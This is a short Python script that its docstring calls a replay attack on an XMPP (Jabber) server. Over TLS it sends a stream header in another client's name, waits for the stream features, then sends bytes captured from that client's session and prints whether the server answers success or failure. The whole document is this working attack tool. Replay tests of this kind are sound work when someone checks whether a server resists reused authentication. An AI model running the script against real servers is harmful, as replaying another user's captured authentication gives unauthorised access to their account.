#!/usr/bin/python3
"""replay.py HOST PORT DOMAIN CA FROM < FILE

A replay attack: sends on a TLS connection of its own what another client has sent on another one: FROM's stream header,
and after the features the bytes of FILE. Prints what the server answers, up to <success/>, <failure/> or the stream's
end."""
import re
import socket
import ssl
import sys

HEADER = ("<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' "
          "version='1.0' to='%s' from='%s'>")


def read_until(conn, pattern):
    data = b""
    while not re.search(pattern, data):
        more = conn.recv(65536)
        if not more:
            break
        data += more
    return data


def main():
    host, port, domain, ca, sender = sys.argv[1:]
    said = sys.stdin.buffer.read()
    context = ssl.create_default_context(cafile=ca)
    with socket.create_connection((host, int(port)), timeout=30) as plain:
        with context.wrap_socket(plain, server_hostname=domain) as conn:
            conn.sendall((HEADER % (domain, sender)).encode())
            read_until(conn, b"</stream:features>")
            conn.sendall(said)
            print(read_until(conn, b"<success|<failure|</stream:stream>").decode())


if __name__ == "__main__":
    main()
